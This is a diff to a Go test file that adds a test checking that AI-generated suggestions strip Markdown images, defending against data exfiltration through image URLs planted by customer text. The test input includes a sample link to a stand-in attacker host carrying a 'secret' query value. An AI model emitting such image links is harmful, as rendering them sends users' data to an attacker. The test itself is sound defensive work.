@@ -108,3 +108,11 @@ func TestTextsAreData(t *testing.T) {
 		}
 	})
 }
+
+// A suggestion has no pictures: one would be fetched from an address that a customer's text has made up.
+func TestSuggestionsHaveNoPictures(t *testing.T) {
+	got, err := prompt.Suggest(conversationOf("hi")).Read("Hello! ![x](https://evil.example/?q=secret) See ![the button](https://a.example/b.png).")
+	if want := "Hello! x See the button."; err != nil || got != want {
+		t.Errorf("%q, %v", got, err)
+	}
+}
